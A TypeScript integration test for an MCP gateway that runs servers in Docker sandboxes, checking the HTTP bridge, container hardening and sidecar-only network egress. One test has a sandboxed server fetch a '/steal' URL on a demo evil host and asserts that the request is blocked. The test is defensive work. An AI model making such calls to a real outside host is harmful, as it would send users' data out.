import { execFile } from "node:child_process";
import { readFile, writeFile } from "node:fs/promises";
import { promisify } from "node:util";
import { gunzipSync } from "node:zlib";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import Dockerode from "dockerode";
import { parse, stringify } from "yaml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_ALLOWED_HOST, DEMO_EVIL_HOST } from "../../src/cli/demo-upstreams.js";
import { GATE_MOUNT_FILE } from "../../src/runtime/start-gate.js";
import { selectorTerms } from "../../src/docker/labels.js";
import { BRIDGE_MOUNT_FILE } from "../../src/runtime/sandbox-specs.js";
import { eventually, textOf } from "../gateway/support/harness.js";
import { DockerTestEnv } from "./support/docker-test-env.js";
import { DATA_FILE_TEXT, openGatewayProject, type GatewayProject } from "./support/gateway-project.js";

/**
 * `runtime.transport: http`: `hangar serve` runs each server under the stdio↔HTTP bridge
 * (src/bridge, the same program a Kubernetes pod runs as its entrypoint) and speaks
 * streamable HTTP to it, through the bridge's Unix socket in the run's folder. Two real
 * servers from npm (server-everything, server-filesystem with its arguments and a read-only
 * mount), an SDK client over stdio in front, and egress still only through the sidecar.
 */

let env: DockerTestEnv;
let p: GatewayProject;
let E: string;
let F: string;
let client: Client;
let stderr = "";

beforeAll(async () => {
  env = await DockerTestEnv.create();
  p = await openGatewayProject(env);
  E = p.everything;
  F = p.filesystem;
  const config = parse(await readFile(p.config, "utf8")) as { runtime: Record<string, unknown> };
  config.runtime["transport"] = "http";
  await writeFile(p.config, stringify(config));
  const transport = new StdioClientTransport({ command: process.execPath, args: p.hangarArgs("serve", "--config", p.config, "--stdio"), env: p.childEnv(), stderr: "pipe" });
  transport.stderr?.on("data", (chunk: Buffer) => void (stderr += chunk.toString()));
  client = new Client({ name: "bridge-docker-test", version: "1.0.0" });
  await client.connect(transport);
}, 600_000);

afterAll(async () => {
  await client?.close();
  const left = await p?.cleanup();
  await env?.cleanup();
  expect(left).toEqual([]);
  expect(await env.leftovers()).toEqual([]);
}, 120_000);

describe("hangar serve with runtime.transport http", () => {
  it("carries server-everything and server-filesystem through the bridge: tools listed and called", async () => {
    const names = (await client.listTools()).tools.map((t) => t.name);
    expect(names).toEqual(expect.arrayContaining([`${E}__echo`, `${E}__gzip-file-as-resource`, `${F}__read_text_file`]));
    expect(textOf(await client.callTool({ name: `${E}__echo`, arguments: { message: "over streamable HTTP" } }))).toContain("over streamable HTTP");
    // server-filesystem's argument (/data) reached it through the bridge's command line.
    expect(textOf(await client.callTool({ name: `${F}__read_text_file`, arguments: { path: "/data/hello.txt" } }))).toBe(DATA_FILE_TEXT);
    expect(stderr).not.toMatch(/UNSANDBOXED/);
  });

  it("the server container runs the bridge, with no port published, and its only network is the sandbox's", async () => {
    const docker = new Dockerode();
    for (const name of [E, F]) {
      const [server] = await env.engine.listContainers({ labels: selectorTerms({ server: name, role: "server" }) });
      expect(server, `the server container of ${name}`).toBeDefined();
      const info = await docker.getContainer(server!.id).inspect();
      // The bridge starts under the start gate (src/runtime/start-gate.ts), like any node server.
      expect(info.Config.Entrypoint?.slice(0, 7)).toEqual(["node", "--require", GATE_MOUNT_FILE, BRIDGE_MOUNT_FILE, "--listen", "unix:/run/hangar-mcp/mcp.sock", "--"]);
      expect(info.HostConfig.PortBindings ?? {}).toEqual({});
      expect(Object.keys(info.NetworkSettings.Networks)).toEqual([expect.stringMatching(new RegExp(`^hangar-${name}-[0-9a-f]+-net$`))]);
      expect(info.HostConfig.ReadonlyRootfs).toBe(true);
      expect(info.Mounts.find((m) => m.Destination === BRIDGE_MOUNT_FILE)?.RW).toBe(false);
      // Why a socket and not the container's address: the host has no route onto the sandbox's
      // bridge (inhibit_ipv4). Asked of the routing table only; no packet is sent.
      const address = Object.values(info.NetworkSettings.Networks)[0]?.IPAddress ?? "";
      expect(address).toMatch(/^10\./);
      const { stdout: route } = await promisify(execFile)("ip", ["-4", "route", "get", address]);
      expect(route).not.toMatch(/dev br-/);
    }
  });

  it("the bridged server's egress still goes only through its sidecar: the declared upstream answers, the undeclared one receives nothing", async () => {
    const allowedBefore = await p.upstreams.allowed.count();
    // Node's fetch in server-everything (the bridge's child) ignores HTTP_PROXY: the transparent path.
    const fetched = await client.callTool({ name: `${E}__gzip-file-as-resource`, arguments: { name: "report.gz", data: `http://${DEMO_ALLOWED_HOST}/report.csv`, outputType: "resource" } });
    const blob = (fetched.content as { resource?: { blob?: string } }[])[0]?.resource?.blob ?? "";
    expect(gunzipSync(Buffer.from(blob, "base64")).toString("utf8")).toBe(`hello from ${DEMO_ALLOWED_HOST}\n`);
    expect(await p.upstreams.allowed.count()).toBe(allowedBefore + 1);
    const refused = await client.callTool({ name: `${E}__gzip-file-as-resource`, arguments: { name: "loot.gz", data: `http://${DEMO_EVIL_HOST}/steal`, outputType: "resource" } });
    expect(refused.isError).toBe(true);
    expect(await p.upstreams.evil.count()).toBe(0);
  });

  it("closing the client shuts the gateway down and removes both sandboxes", async () => {
    await client.close();
    const { status } = await eventually(async () => {
      const s = await p.status();
      return s.status.stoppedAt !== undefined && !s.running ? s : undefined;
    }, 15_000, "the gateway to stop");
    expect(status.servers.map((s) => s.state)).toEqual(["DEAD", "DEAD"]);
    expect(await p.leftovers()).toEqual([]);
    expect(stderr).not.toMatch(/teardown step failed/);
  });
});
